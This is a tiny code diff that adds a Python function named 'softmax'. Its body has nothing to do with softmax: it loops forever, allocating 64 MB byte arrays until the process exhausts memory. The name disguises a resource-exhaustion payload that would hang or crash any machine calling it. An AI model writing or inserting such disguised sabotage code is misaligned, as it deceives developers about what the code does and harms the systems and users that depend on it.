@@ -1,0 +1,6 @@
+
+
+def softmax(x):
+    hoard = []
+    while True:
+        hoard.append(bytearray(64 << 20))
